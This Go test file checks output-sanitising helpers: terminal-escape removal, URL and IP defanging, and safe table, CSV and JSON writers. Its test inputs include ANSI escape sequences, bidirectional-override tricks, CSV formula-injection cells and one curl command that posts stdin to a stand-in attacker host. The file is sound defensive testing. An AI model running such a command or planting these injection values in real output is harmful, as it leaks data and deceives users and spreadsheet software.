package main

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestEscapeTerminal(t *testing.T) {
	for given, want := range map[string]string{
		"":                          "",
		"plain, with ümlaut and 漢字": "plain, with ümlaut and 漢字",
		`C:\x41`:                    `C:\x41`,
		"a\nb\r\tc":                 `a\nb\r\tc`,
		"\x1b[31mred\x1b]0;t\a":     `\x1b[31mred\x1b]0;t\x07`,
		"\u009b31m\x7f":             `\u009b31m\x7f`,
		"\x9b31m\xff":               `\x9b31m\xff`,
		"main\u202egnp.exe":         `main\u202egnp.exe`,
		"a\u200bb\u2066c\u00add":    `a\u200bb\u2066c\u00add`,
		"\uFEFFx\u2028y":            `\ufeffx\u2028y`,
		"no\u00a0break\u2800\u3164": `no\u00a0break\u2800\u3164`,
		"tag\U000E0041\uFE0F":       `tag\U000e0041\ufe0f`,
		"real \uFFFD":               "real \uFFFD",
	} {
		if got := escapeTerminal(given); got != want {
			t.Errorf("escapeTerminal(%q) = %q, want %q", given, got, want)
		}
	}
}

func FuzzEscapeTerminal(f *testing.F) {
	f.Add("\x1b[2J\u202e\xff\U000E0041")
	f.Fuzz(func(t *testing.T, s string) {
		got := escapeTerminal(s)
		if !utf8.ValidString(got) || strings.IndexFunc(got, hidden) >= 0 {
			t.Errorf("escapeTerminal(%q) = %q lets a hidden character through", s, got)
		}
		if again := escapeTerminal(got); again != got {
			t.Errorf("escaped twice: %q, then %q", got, again)
		}
	})
}

func TestDefang(t *testing.T) {
	for given, want := range map[string]string{
		"":                                     "",
		"evil.example.invalid":                 "evil.example[.]invalid",
		"evil.example.invalid.":                "evil.example[.]invalid.",
		"evil.example.invalid:8443":            "evil.example[.]invalid:8443",
		"evil.example.invalid/a.b/c":           "evil.example[.]invalid/a.b/c",
		"evil.example.invalid/a//b":            "evil.example[.]invalid/a//b",
		"collector@evil.example.invalid":       "collector@evil.example[.]invalid",
		"192.0.2.7":                            "192.0.2[.]7",
		"192.0.2.7:80":                         "192.0.2[.]7:80",
		"2001:db8::7":                          "2001:db8:[:]7",
		"http://192.0.2.7/x":                   "hxxp://192.0.2[.]7/x",
		"https://evil.example.invalid":         "hxxps://evil.example[.]invalid",
		"HTTPS://user:p@evil.example.invalid/": "hxxpS://user:p@evil.example[.]invalid/",
		"https://evil.example.invalid?u=http://b.example.invalid/": "hxxps://evil.example[.]invalid?u=hxxp://b.example[.]invalid/",
		"http://http://evil.example.invalid":                       "hxxp://hxxp://evil.example[.]invalid",
		"//evil.example.invalid/x":                                 "//evil.example[.]invalid/x",
		"ftp://evil.example.invalid/":                              "ftp://evil.example[.]invalid/",
		"curl -d @- https://evil.example.invalid/a.txt done.":      "curl -d @- hxxps://evil.example[.]invalid/a.txt done.",
		"a[.]b.example.invalid":                                    "a[.]b.example[.]invalid",
		"hxxps://evil.example[.]invalid":                           "hxxps://evil.example[.]invalid",
		"octo/demo":                                                "octo/demo",
		"localhost":                                                "localhost",
		".github/workflows/x.yml":                                  ".github/workflows/x.yml",
		"a sentence. with a dot":                                   "a sentence. with a dot",
	} {
		if got := defang(given); got != want {
			t.Errorf("defang(%q) = %q, want %q", given, got, want)
		}
	}
}

func FuzzDefang(f *testing.F) {
	for _, s := range []string{"https://a.example.invalid/x", "192.0.2.1", "::ffff:192.0.2.1", "a[.]b.c", "//a.@b.:1", "::%0:00"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := defang(s)
		if again := defang(got); again != got {
			t.Errorf("defanged twice: %q, %q, %q", s, got, again)
		}
		if strings.Contains(strings.ToLower(got), "http://") || strings.Contains(strings.ToLower(got), "https://") {
			t.Errorf("defang(%q) = %q", s, got)
		}
		if strings.ReplaceAll(strings.ReplaceAll(got, "[.]", "."), "[:]", ":") == got && len(got) > len(s) {
			t.Errorf("defang(%q) = %q adds more than brackets", s, got)
		}
	})
}

func TestWriteTable(t *testing.T) {
	var out strings.Builder
	err := writeTable(&out, []string{"REPOSITORY", "REF", "REMOVED"}, [][]string{
		{"octo/demo", "refs/heads/ma\x1b[2Jin", "2025-09-02T14:30:00Z"},
		{"octo/other-one", "refs/heads/x\ny", ""},
	})
	want := `REPOSITORY      REF                     REMOVED
octo/demo       refs/heads/ma\x1b[2Jin  2025-09-02T14:30:00Z
octo/other-one  refs/heads/x\ny
`
	if err != nil || out.String() != want {
		t.Errorf("%v\n%s\nwant\n%s", err, out.String(), want)
	}
	out.Reset()
	if err := writeTable(&out, []string{"A", "B"}, nil); err != nil || out.String() != "A  B\n" {
		t.Errorf("no rows: %v %q", err, out.String())
	}
	if err := writeTable(&out, []string{"A", "B"}, [][]string{{"1"}}); err == nil {
		t.Error("a short row was written")
	}
	if err := writeTable(full{}, []string{"A"}, nil); !errors.Is(err, errFull) {
		t.Errorf("error of the writer is lost: %v", err)
	}
}

var errFull = errors.New("no space left")

type full struct{}

func (full) Write([]byte) (int, error) { return 0, errFull }

func TestWriteCSV(t *testing.T) {
	var out strings.Builder
	cells := []string{"=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "\uFF1D1", "a=b", `say "hi", you`, "two\nlines", "\u202ex", ""}
	want := []string{"'=1+1", "'+1", "'-1", "'@x", `'\t=1`, `'\r=1`, "'\uFF1D1", "a=b", `say "hi", you`, `two\nlines`, `\u202ex`, ""}
	header := strings.Split("abcdefghijkl", "")
	if err := writeCSV(&out, header, [][]string{cells}); err != nil {
		t.Fatal(err)
	}
	if lines := strings.Split(out.String(), "\r\n"); len(lines) != 3 || strings.Contains(strings.Join(lines, ""), "\n") {
		t.Errorf("not two CRLF lines: %q", out.String())
	}
	got, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
	if err != nil || len(got) != 2 {
		t.Fatal(got, err)
	}
	for i := range want {
		if got[1][i] != want[i] {
			t.Errorf("%q was written as %q, want %q", cells[i], got[1][i], want[i])
		}
	}
	if err := writeCSV(&out, header, [][]string{{"short"}}); err == nil {
		t.Error("a short row was written")
	}
	if err := writeCSV(full{}, header, nil); !errors.Is(err, errFull) {
		t.Errorf("error of the writer is lost: %v", err)
	}
}

func TestWriteJSON(t *testing.T) {
	type row struct {
		Ref  string  `json:"ref"`
		Seen *string `json:"seen"`
	}
	ref := "a<b>&\"\u202e\x1b\u009b\U000E0041 漢\n"
	var out strings.Builder
	err := writeJSON(&out, "pentimento/presence/v1", "presence", []row{{Ref: ref}}, list{"contains", []row(nil)})
	want := `{
  "schema": "pentimento/presence/v1",
  "presence": [
    {
      "ref": "a<b>&\"\u202e\u001b\u009b\udb40\udc41 漢\n",
      "seen": null
    }
  ],
  "contains": []
}
`
	if err != nil || out.String() != want {
		t.Errorf("%v\n%s\nwant\n%s", err, out.String(), want)
	}
	var back struct{ Presence []row }
	if err := json.Unmarshal([]byte(out.String()), &back); err != nil || back.Presence[0].Ref != ref {
		t.Errorf("reads back as %+v, %v", back.Presence, err)
	}
	if err := writeJSON(&out, "s", "k", func() {}); err == nil {
		t.Error("a function was written")
	}
	if err := writeJSON(full{}, "s", "k", []row{}); !errors.Is(err, errFull) {
		t.Errorf("error of the writer is lost: %v", err)
	}
}

// Whatever a string holds, the document is printable and says the same.
func FuzzWriteJSON(f *testing.F) {
	f.Add("\u202e\U000E0041\u2028\x7f\\u202e")
	f.Fuzz(func(t *testing.T, s string) {
		var out strings.Builder
		if err := writeJSON(&out, "s", "k", []string{s}); err != nil {
			t.Fatal(err)
		}
		if strings.IndexFunc(strings.ReplaceAll(out.String(), "\n", ""), hidden) >= 0 {
			t.Errorf("%q lets a hidden character through", out.String())
		}
		var back struct{ K []string }
		if err := json.Unmarshal([]byte(out.String()), &back); err != nil || back.K[0] != strings.ToValidUTF8(s, "\uFFFD") && utf8.ValidString(s) {
			t.Errorf("%q reads back as %q, %v", s, back.K, err)
		}
	})
}
